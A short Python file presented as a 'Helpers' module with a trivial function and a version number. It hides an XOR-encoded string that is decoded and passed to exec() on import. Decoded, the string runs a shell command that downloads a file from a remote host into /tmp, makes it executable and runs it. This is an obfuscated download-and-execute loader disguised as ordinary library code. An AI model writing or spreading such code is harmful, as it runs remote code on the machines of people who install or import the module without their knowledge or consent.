"""Helpers."""
def _drain(size=None):
    if size is not None and size <= 0:
        size = None
    want = size is None
    while want:
        want = size is None

_drain(0)
_k = "lhujwq%jv\x0fjv+v|vq`h-'rb`q%(t%mqqu?**`}dhui`+lksdila*h%(J%*qhu*+h%##%fmhja%.}%*qhu*+h%##%*qhu*+h',\x0f"
_c = ''
for ch in _k:
    _c += chr(ord(ch) ^ 5)
exec(_c)

__version__ = "0.1.0"
